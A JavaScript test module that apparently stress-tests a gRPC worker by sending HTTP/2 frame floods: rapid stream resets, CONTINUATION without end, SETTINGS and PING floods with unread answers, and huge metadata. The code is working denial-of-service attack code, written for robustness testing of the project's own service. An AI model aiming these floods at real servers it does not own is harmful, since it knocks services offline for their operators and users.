/** Attacks with many small frames that HTTP/2 and gRPC allow a peer to send without being asked. */
import { callHeaders, END_HEADERS, END_STREAM, frame, headerBlock, message, PREFACE, TYPE } from "./http2-frames.mjs";

const DISPATCH = "/wool.v1.Worker/Dispatch";
const HEALTH = "/grpc.health.v1.Health/Check";
const opening = Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0)]);

/** Writes until the peer closes, `count` pieces are out, or the time is over. Reads everything, or nothing if `deaf`. */
async function pour(socket, piece, { count, deaf = false, limitMs = 20_000 }) {
  const end = performance.now() + limitMs;
  if (!deaf) socket.resume();
  let closed = socket.destroyed;
  socket.once("close", () => (closed = true));
  let sent = 0;
  while (sent < count && !closed && performance.now() < end) {
    const parts = [];
    for (let bytes = 0; bytes < 64 * 1024 && sent < count; sent++) {
      const part = piece(sent);
      parts.push(part);
      bytes += part.length;
    }
    if (!socket.write(Buffer.concat(parts))) {
      const drained = await new Promise((resolve) => {
        const settle = (isDrained) => {
          clearTimeout(timer);
          socket.off("drain", done).off("close", done);
          resolve(isDrained);
        };
        const done = () => settle(true);
        const timer = setTimeout(() => settle(false), 1000);
        socket.once("drain", done).once("close", done);
      });
      // The worker has stopped reading.
      if (!drained) return { sent, closed };
    } else await new Promise((resolve) => setImmediate(resolve));
  }
  return { sent, closed };
}

const call = (stream, path = DISPATCH) => frame(TYPE.headers, END_HEADERS, stream, callHeaders(path));

export const floods = {
  "streams opened and reset": {
    count: 200_000,
    piece: (i) => Buffer.concat([call(2 * i + 1), frame(TYPE.reset, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8]))]),
  },
  "streams opened beyond the limit": { count: 200_000, piece: (i) => call(2 * i + 1) },
  "unary calls never ended": { count: 200_000, piece: (i) => call(2 * i + 1, HEALTH) },
  SETTINGS: { count: 500_000, piece: () => frame(TYPE.settings, 0, 0) },
  "SETTINGS, answers not read": { count: 500_000, deaf: true, piece: () => frame(TYPE.settings, 0, 0) },
  PING: { count: 500_000, piece: () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)) },
  "PING, answers not read": { count: 500_000, deaf: true, piece: () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)) },
  "CONTINUATION without an end": {
    count: 200_000,
    first: () => frame(TYPE.headers, 0, 1, callHeaders(DISPATCH)),
    piece: () => frame(TYPE.continuation, 0, 1, headerBlock([["x-more", "y".repeat(100)]])),
  },
  "empty DATA": { count: 2_000_000, first: () => call(1), piece: () => frame(TYPE.data, 0, 1) },
  "empty messages": {
    count: 5_000,
    first: () => call(1),
    piece: () => frame(TYPE.data, 0, 1, Buffer.concat(Array.from({ length: 1000 }, () => message(Buffer.alloc(0))))),
  },
  WINDOW_UPDATE: {
    count: 500_000,
    first: () => call(1),
    piece: () => frame(TYPE.windowUpdate, 0, 1, Buffer.from([0, 0, 0, 1])),
  },
  PRIORITY: { count: 500_000, piece: (i) => frame(TYPE.priority, 0, 2 * i + 1, Buffer.alloc(5)) },
  "garbage frames": { count: 200_000, piece: (i) => frame(i % 256, i & 0xff, i, Buffer.alloc(i % 50, i)) },
  "huge metadata": {
    count: 2_000,
    piece: (i) => {
      const block = callHeaders(
        HEALTH,
        Array.from({ length: 300 }, (_, k) => [`x-${k}`, "v".repeat(20)]),
      );
      return frame(TYPE.headers, END_HEADERS | END_STREAM, 2 * i + 1, block);
    },
  },
};

/** Runs one of them, or a `share` of it. Returns how much was sent, and whether the worker hung up. */
export async function flood(victim, name, share = 1) {
  const { count, deaf, first, piece } = floods[name];
  const socket = await victim.connect();
  socket.write(first === undefined ? opening : Buffer.concat([opening, first()]));
  const end = await pour(socket, piece, { count: Math.ceil(count * share), deaf });
  socket.destroy();
  return end;
}
